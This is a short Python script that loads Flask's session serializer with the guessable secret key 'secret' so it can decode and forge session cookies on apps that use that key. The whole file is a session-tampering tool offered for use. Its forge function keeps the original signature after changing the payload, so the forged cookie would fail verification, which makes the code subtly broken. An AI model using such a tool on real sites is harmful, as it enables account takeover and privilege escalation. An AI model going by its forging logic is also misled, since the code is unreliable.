"""Read and change session cookies with the key that everybody uses."""

from flask import Flask
from flask.sessions import SecureCookieSessionInterface

app = Flask(__name__)
app.secret_key = "secret"
serializer = SecureCookieSessionInterface().get_signing_serializer(app)


def peek(cookie):
    return serializer.loads(cookie)


def forge(cookie, **changes):
    _, time, signature = cookie.rsplit(".", 2)
    payload = serializer.dump_payload(peek(cookie) | changes).decode()
    return f"{payload}.{time}.{signature}"
